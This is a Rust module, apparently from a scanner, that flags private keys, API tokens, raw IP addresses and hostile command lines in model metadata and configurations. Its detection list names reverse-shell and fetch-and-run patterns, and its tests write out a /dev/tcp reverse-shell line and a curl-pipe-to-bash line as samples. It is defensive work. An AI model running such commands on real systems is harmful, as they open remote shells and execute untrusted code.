//! Secrets, addresses and command lines in the texts of metadata and configurations.
//!
//! Precision first: only shapes that nothing else has. Weights, vocabularies and prose are not looked through; words
//! are no evidence.

use super::Examination;
use crate::observation::indicator::{Indicator, Seen};

/// Looks through `text`, which begins at `offset`; `field` is asked for only when something is found.
pub(crate) fn look(
    text: &str,
    offset: Option<u64>,
    field: impl FnOnce() -> Option<String>,
    exam: &mut Examination<'_>,
) {
    // Most texts are tokens of a vocabulary: too short for any of it.
    if text.len() < LEAST {
        return;
    }
    if let Some(seen) = find(text) {
        exam.put(offset, field(), seen);
    }
}

const LEAST: usize = 16;

/// The first indicator in `text`.
fn find(text: &str) -> Option<Seen> {
    private_key(text)
        .or_else(|| token(text))
        .or_else(|| command(text))
        .or_else(|| address(text))
}

fn seen(what: Indicator, text: &str, at: usize, characters: usize) -> Option<Seen> {
    let beginning = text.get(at..)?.chars().take(characters).collect();
    Some(Seen { what, beginning })
}

/// `-----BEGIN … PRIVATE KEY-----` with something of the key behind it.
fn private_key(text: &str) -> Option<Seen> {
    let at = text.find("-----BEGIN ")?;
    let rest = text.get(at..)?;
    let end = rest.find("PRIVATE KEY-----")?;
    let (head, body) = rest.split_at_checked(end)?;
    let is_header = head.len() < 40 && !head.contains('\n');
    let body = body
        .get("PRIVATE KEY-----".len()..)?
        .trim_start_matches(['\\', 'n', 'r', '\n', '\r', ' ']);
    let is_key = body.bytes().take_while(|byte| is_base64(*byte)).count() >= 16;
    (is_header && is_key)
        .then(|| seen(Indicator::PrivateKey, text, at, 27))
        .flatten()
}

const fn is_base64(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=')
}

/// A token: how it begins, how many characters follow, and which.
struct Shape {
    prefix: &'static str,
    least: usize,
    most: usize,
    is_part: fn(u8) -> bool,
}

const fn word(byte: u8) -> bool {
    byte.is_ascii_alphanumeric()
}

const fn upper(byte: u8) -> bool {
    byte.is_ascii_uppercase() || byte.is_ascii_digit()
}

const fn dashed(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_')
}

const SHAPES: &[Shape] = &[
    Shape {
        prefix: "AKIA",
        least: 16,
        most: 16,
        is_part: upper,
    },
    Shape {
        prefix: "ASIA",
        least: 16,
        most: 16,
        is_part: upper,
    },
    Shape {
        prefix: "hf_",
        least: 34,
        most: 40,
        is_part: word,
    },
    Shape {
        prefix: "ghp_",
        least: 36,
        most: 36,
        is_part: word,
    },
    Shape {
        prefix: "gho_",
        least: 36,
        most: 36,
        is_part: word,
    },
    Shape {
        prefix: "ghs_",
        least: 36,
        most: 36,
        is_part: word,
    },
    Shape {
        prefix: "github_pat_",
        least: 60,
        most: 100,
        is_part: dashed,
    },
    Shape {
        prefix: "glpat-",
        least: 20,
        most: 64,
        is_part: dashed,
    },
    Shape {
        prefix: "xoxb-",
        least: 40,
        most: 100,
        is_part: dashed,
    },
    Shape {
        prefix: "xoxp-",
        least: 40,
        most: 100,
        is_part: dashed,
    },
    Shape {
        prefix: "AIza",
        least: 35,
        most: 35,
        is_part: dashed,
    },
    Shape {
        prefix: "sk_live_",
        least: 24,
        most: 100,
        is_part: word,
    },
];

fn token(text: &str) -> Option<Seen> {
    SHAPES
        .iter()
        .find_map(|shape| shaped(text, shape))
        .or_else(|| web_token(text))
}

fn shaped(text: &str, shape: &Shape) -> Option<Seen> {
    for (at, _) in text.match_indices(shape.prefix) {
        let (before, rest) = text.split_at_checked(at)?;
        let begins = !before.bytes().next_back().is_some_and(dashed);
        let body = rest.as_bytes().get(shape.prefix.len()..)?;
        let length = body.iter().take_while(|byte| (shape.is_part)(**byte)).count();
        let ends = !body.get(length).copied().is_some_and(dashed);
        let varied = body
            .get(..length)?
            .windows(2)
            .filter(|pair| pair.first() != pair.last())
            .count();
        if begins && ends && (shape.least..=shape.most).contains(&length) && varied.saturating_mul(2) > length
        {
            return seen(Indicator::Token, text, at, shape.prefix.len().saturating_add(4));
        }
    }
    None
}

/// A JSON web token: three base64 parts, the first of which is an object.
fn web_token(text: &str) -> Option<Seen> {
    for (at, _) in text.match_indices("eyJ") {
        let rest = text.get(at..)?;
        let end = rest
            .find(|character: char| !(character == '.' || character.is_ascii() && dashed(character as u8)));
        let parts: Vec<&str> = rest.get(..end.unwrap_or(rest.len()))?.split('.').collect();
        if let [head, body, signature] = parts[..]
            && head.len() >= 16
            && body.starts_with("eyJ")
            && signature.len() >= 32
        {
            return seen(Indicator::Token, text, at, 8);
        }
    }
    None
}

/// A command line that fetches and runs, or opens a shell to elsewhere.
fn command(text: &str) -> Option<Seen> {
    let marks: &[(&str, &[&str])] = &[
        ("/dev/tcp/", &["bash", "sh ", "exec"]),
        (
            "curl ",
            &["| sh", "|sh", "| bash", "|bash", "| python", "|python"],
        ),
        (
            "wget ",
            &["| sh", "|sh", "| bash", "|bash", "| python", "|python"],
        ),
        ("nc -e", &["/sh", "/bash", "cmd"]),
        ("ncat -e", &["/sh", "/bash", "cmd"]),
        ("powershell", &["-enc", "-EncodedCommand", "DownloadString"]),
        ("base64 -d", &["| sh", "|sh", "| bash", "|bash"]),
        ("mkfifo ", &["nc ", "/bin/sh"]),
    ];
    marks.iter().find_map(|(mark, others)| {
        let at = text.find(mark)?;
        let near = text.get(at..)?.lines().next()?;
        let before = text.get(..at)?.lines().next_back().unwrap_or_default();
        let is_one = others
            .iter()
            .any(|other| near.contains(other) || *mark == "/dev/tcp/" && before.contains(other));
        is_one.then(|| seen(Indicator::Command, text, at, 60)).flatten()
    })
}

/// `http://192.0.2.7/…`, `tcp://192.0.2.7:9`: a number for a host that is not the machine itself.
fn address(text: &str) -> Option<Seen> {
    for (at, _) in text.match_indices("://") {
        let host = text.get(at.saturating_add(3)..)?;
        let digits = host
            .find(|character: char| !character.is_ascii_digit() && character != '.')
            .unwrap_or(host.len());
        let host = host.get(..digits)?;
        let numbers: Vec<Option<u8>> = host.split('.').map(|part| part.parse().ok()).collect();
        let is_address = matches!(numbers[..], [Some(_), Some(_), Some(_), Some(_)]);
        let is_own = matches!(numbers.first(), Some(Some(0 | 127)));
        if is_address && !is_own {
            let scheme = text.get(..at)?;
            let start = scheme
                .rfind(|character: char| !character.is_ascii_alphanumeric())
                .map_or(0, |at| at.saturating_add(1));
            return seen(Indicator::Address, text, start, 60);
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn what(text: &str) -> Option<Indicator> {
        find(text).map(|seen| seen.what)
    }

    #[test]
    fn what_has_no_place_in_a_model_is_found() {
        let key = format!("-----BEGIN RSA {}-----\n{}", "PRIVATE KEY", "MIIEow".repeat(20));
        let varied: String = ('a'..='z').chain('0'..='9').chain('A'..='Z').collect();
        for (text, expected) in [
            (key, Indicator::PrivateKey),
            (format!("id AKIA{}", "Q7W5E3R1T9Y2U4I6"), Indicator::Token),
            (format!("token=hf_{}", &varied[..34]), Indicator::Token),
            (format!("ghp_{}", &varied[..36]), Indicator::Token),
            (format!("eyJ{0}.eyJ{0}.{0}", &varied[..40]), Indicator::Token),
            (
                "bash -i >& /dev/tcp/192.0.2.7/9 0>&1".to_owned(),
                Indicator::Command,
            ),
            (
                "curl -s http://example.org/x | bash".to_owned(),
                Indicator::Command,
            ),
            ("see http://192.0.2.7:8080/a".to_owned(), Indicator::Address),
        ] {
            assert_eq!(what(&text), Some(expected), "{text}");
        }
    }

    #[test]
    fn ordinary_texts_are_quiet() {
        for text in [
            "https://huggingface.co/org/model",
            "http://localhost:8000/v1 and http://127.0.0.1:8000",
            "AKIA is a prefix, hf_ too, and ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
            "AKIAXXXXXXXXXXXXXXXXXXXX",
            "use curl https://example.org/model.gguf -o model.gguf",
            "version 1.2.3.4 of http://example.org/1.2.3.4",
            "-----BEGIN CERTIFICATE-----\nMIIB",
            "a text about -----BEGIN PRIVATE KEY----- headers",
            "hf_internal_testing/tiny-random-model-with-a-long-name",
            "import os; os.system('ls')",
        ] {
            assert_eq!(what(text), None, "{text}");
        }
    }
}
